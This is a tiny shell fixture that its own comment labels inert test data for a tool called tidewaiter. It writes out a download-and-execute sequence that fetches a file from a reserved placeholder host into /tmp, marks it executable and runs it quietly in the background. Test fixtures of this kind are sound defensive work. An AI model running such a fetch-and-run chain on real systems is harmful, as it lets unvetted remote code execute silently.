# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
T=/tmp
wget -q "http://files.invalid/a" -O "$T/a" && chmod +x $T/a
"$T/a" --quiet &
